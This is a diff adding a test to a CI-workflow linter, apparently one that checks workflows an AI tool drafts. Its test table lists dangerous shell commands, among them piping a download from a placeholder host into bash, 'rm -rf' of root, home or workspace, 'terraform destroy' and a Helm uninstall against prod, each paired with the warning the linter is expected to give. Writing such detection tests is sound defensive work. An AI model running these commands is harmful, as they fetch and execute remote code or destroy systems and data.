@@ -376,3 +376,60 @@ def test_a_step_that_reads_other_values_is_not_held_to_the_allowed_secret():
     findings = [f for f in check(text, allow) if f.blocking]
     assert "secret-over-network" not in {f.rule for f in findings}
     assert [(f.rule, f.line) for f in findings if f.rule == "secret-use"] == [("secret-use", line(text, "OTHER"))]
+
+
+# --- dangerous shell: what it does, named (warnings on workflows vibeops did not write) -------------------------
+
+DANGER = [
+    # (script, what an existing workflow is warned about, what a draft is refused for)
+    ("curl -s https://x.example | env A=1 sudo -E bash", ["pipes a download into `bash`"],
+     ["reaches the network with `curl`", "pipes a download into `bash`"]),
+    ("/usr/bin/wget -qO- https://x.example | /bin/sh", ["pipes a download into `sh`"],
+     ["reaches the network with `wget`", "pipes a download into `sh`"]),
+    ("echo id | bash", [], ["pipes a script into `bash`"]),
+    ("curl -o x.sh https://x.example && bash x.sh", [],
+     ["reaches the network with `curl`", "runs the interpreter `bash`"]),
+    ("curl -o x.sh https://x.example && bash -c \"$(cat x.sh)\"", ["runs a downloaded script with `bash`"],
+     ["reaches the network with `curl`", "runs a downloaded script with `bash`"]),
+    ('bash -c "$(echo hi)"', [], ["runs inline code with `bash`"]),
+    ("ruby -e 'puts 1'", [], ["runs inline code with `ruby`"]),
+    ('eval "$(echo hi)"', [], ["runs code through `eval`"]),
+    ('curl -o e https://x.example; source "$(echo e)"', ["runs a downloaded script with `source`"],
+     ["reaches the network with `curl`", "runs a downloaded script with `source`"]),
+    ("sudo -v", [], ["runs commands as root with `sudo`"]),
+    ("su -c id", [], ["runs commands as root with `su`"]),
+    ("doas rm -rf /", ["deletes the file system (`rm -rf` of the root, home or workspace)"],
+     ["deletes the file system (`rm -rf` of the root, home or workspace)"]),
+    ("helm", [], ["runs `helm` against live infrastructure or images"]),
+    ("helm un api --kube-context=prod", ["uninstalls a Helm release"], ["uninstalls a Helm release"]),
+    ("helm upgrade api ./chart", [], ["runs `helm` against live infrastructure or images"]),
+    ("kubectl get pods --field-selector=delete", [], ["runs `kubectl` against live infrastructure or images"]),
+    ("tofu apply -destroy", ["destroys infrastructure (`terraform destroy`)"],
+     ["destroys infrastructure (`terraform destroy`)"]),
+    ("terragrunt destroy", ["destroys infrastructure (`terraform destroy`)"],
+     ["destroys infrastructure (`terraform destroy`)"]),
+    ("terraform apply", [], ["runs `terraform` against live infrastructure or images"]),
+    ("rm --force /", [], ["deletes files"]),
+    ("rm -f /", [], ["deletes files"]),
+    ("rm -Rf .", ["deletes the file system (`rm -rf` of the root, home or workspace)"],
+     ["deletes the file system (`rm -rf` of the root, home or workspace)"]),
+    ("rm -r --force $GITHUB_WORKSPACE", ["deletes the file system (`rm -rf` of the root, home or workspace)"],
+     ["deletes the file system (`rm -rf` of the root, home or workspace)"]),
+    ("rm --recursive -f ~/", ["deletes the file system (`rm -rf` of the root, home or workspace)"],
+     ["deletes the file system (`rm -rf` of the root, home or workspace)"]),
+    ("rm -rf -- build", [], ["deletes files"]),
+    ("base64 --decode x", [], ["decodes hidden content with `base64 -d`"]),
+    ("base64 -D x", [], ["decodes hidden content with `base64 -d`"]),
+    ("yarn install", [], ["installs software with `yarn`, outside the pinned allowlist"]),
+    ("aws s3 ls", [], ["runs `aws` against live infrastructure or images"]),
+]
+
+
+def test_dangerous_shell_is_named_for_what_it_does():
+    for script, warned, refused in DANGER:
+        text = draft(run(script))
+        existing = check(text, generated=False)
+        assert [(f.rule, f.severity.value) for f in existing] == [("forbidden-run", "warning")] * len(warned), script
+        assert [f.message.removeprefix("job `scan` step 2 ") for f in existing] == warned, script
+        drafted = [f.message.removeprefix("job `scan` step 2 ") for f in check(text) if f.rule == "forbidden-run"]
+        assert drafted == refused, script
